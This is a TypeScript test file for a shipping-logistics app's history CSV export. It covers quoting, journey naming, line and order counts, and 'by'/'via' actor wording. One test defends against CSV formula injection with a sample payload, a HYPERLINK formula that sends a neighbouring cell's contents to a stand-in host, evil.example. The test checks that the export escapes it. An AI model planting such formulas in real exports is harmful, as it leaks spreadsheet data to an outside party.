import type { HistoryEvent } from '@rigline/contract/history';
import { describe, expect, it } from 'vitest';
import { historyCsv } from './history-csv';

const base: HistoryEvent = {
  id: 1,
  entity_type: 'order',
  entity_id: 42,
  subject: 'ORD-042',
  action: 'Loaded',
  actor: { id: 1, name: 'Sam "the loader" Carter', role_slug: 'supplier' },
  at: '2025-06-10T12:00:00.000Z',
  from_phase: 3,
  from_status: 'ASSIGNED_TO_SUPPLIER',
  to_phase: 4,
  to_status: 'LOADED',
  reason: null,
  count: null,
  request_id: 7,
  voyage_id: 3,
  shipment_id: 12,
};

describe('historyCsv', () => {
  it('writes one quoted row per event under the panel’s columns', async () => {
    const csv = await historyCsv([
      base,
      {
        ...base,
        id: 2,
        entity_type: 'voyage',
        entity_id: 3,
        subject: 'VOY-3',
        action: 'Voyage started',
        actor: { id: 2, name: 'Ben Thompson', role_slug: 'base-coordinator' },
        from_phase: null,
        from_status: 'PLANNING',
        to_phase: null,
        to_status: 'STARTED',
        count: 2,
      },
      { ...base, id: 3, reason: 'Damaged, returns to base, with care' },
    ]);
    expect(csv.split('\n')).toEqual([
      'When,Who,Role,Subject,Action,From → To,Details',
      '2025-06-10T12:00:00.000Z,"Sam ""the loader"" Carter",supplier,ORD-042,Loaded,"Assigned to the supplier for loading (supplier loads) → Loaded (loaded, waiting to sail)",',
      '2025-06-10T12:00:00.000Z,Ben Thompson,base coordinator,VOY-3,Voyage started,Planning → Under way,2 orders',
      '2025-06-10T12:00:00.000Z,"Sam ""the loader"" Carter",supplier,ORD-042,Loaded,"Assigned to the supplier for loading (supplier loads) → Loaded (loaded, waiting to sail)","Damaged, returns to base, with care"',
    ]);
  });
});

describe('historySubject', () => {
  it('names a journey as the server does, by its sequence and rig, never by its row id', async () => {
    const csv = await historyCsv([
      {
        ...base,
        entity_type: 'journey',
        entity_id: 57,
        subject: 'Journey 2 · Ocean Endeavour',
        action: 'Journey started',
        from_phase: null,
        from_status: 'PLANNED',
        to_phase: null,
        to_status: 'STARTED',
      },
    ]);
    const row = csv.split('\n')[1] ?? '';
    expect(row).toContain(',Journey 2 · Ocean Endeavour,Journey started,');
    expect(row).not.toContain('57');
  });
});

describe('historyCsv and formulas', () => {
  it('writes a cell that a spreadsheet would run as a formula as text, an apostrophe first (OWASP)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&B2,"Open")';
    const csv = await historyCsv([
      { ...base, actor: { id: 1, name: evil, role_slug: 'supplier' }, reason: `@${evil}` },
    ]);
    const row = csv.split('\n')[1] ?? '';
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&B2,""Open"")"`);
    expect(row).toContain(`"'@=HYPERLINK(`);
    expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
  });
});

describe('historyDetail', () => {
  it("counts a backload's lines, not orders (issue 22's walk read 'Booked · 1 order')", async () => {
    const { historyDetail } = await import('./history-format');
    const backload = { ...base, entity_type: 'backload' as const, subject: 'BL-4', reason: null };
    expect(historyDetail({ ...backload, count: 1 })).toBe('1 line');
    expect(historyDetail({ ...backload, count: 3 })).toBe('3 lines');
    expect(historyDetail({ ...base, entity_type: 'voyage', count: 1 })).toBe('1 order');
  });
});

describe('historyActor', () => {
  it('says "by" a person and "via" an API key (issue 26)', async () => {
    const { historyActor } = await import('./history-format');
    expect(historyActor(base)).toEqual({ name: 'Sam "the loader" Carter', role: 'supplier', by: 'by' });
    expect(
      historyActor({
        ...base,
        actor: { id: 9, name: 'API key Gulf ERP', role_slug: 'supplier', api_key: true },
      }),
    ).toEqual({ name: 'API key Gulf ERP', role: 'supplier', by: 'via' });
  });
});
